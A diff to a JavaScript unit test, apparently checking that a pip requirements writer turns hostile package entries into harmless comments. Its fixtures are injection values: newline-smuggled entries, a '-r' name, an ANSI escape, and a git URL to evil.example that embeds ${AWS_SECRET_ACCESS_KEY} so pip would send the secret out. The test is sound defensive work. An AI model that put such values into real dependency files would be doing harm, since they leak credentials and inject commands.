@@ -17,6 +17,9 @@ it('never makes a line of what a hostile store calls a package', () => {
     { name: 'b', version: '1\nevil', source: null },
     { name: 'c', version: '1', source: 'folder\nevil==1' },
     { name: '-r', version: '1', source: null },
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: pip puts a variable's value there
+    { name: 'd', version: '1', source: 'git+https://evil.example/${AWS_SECRET_ACCESS_KEY}' },
+    { name: 'e', version: '1', source: 'git+https://evil.example/x\u001b[2J' },
   ]).split('\n');
-  expect(lines.filter(Boolean).every((line) => line.startsWith('#'))).toBe(true);
+  expect(lines.filter(Boolean).every((line) => /^#[ -~]*$/.test(line))).toBe(true);
 });
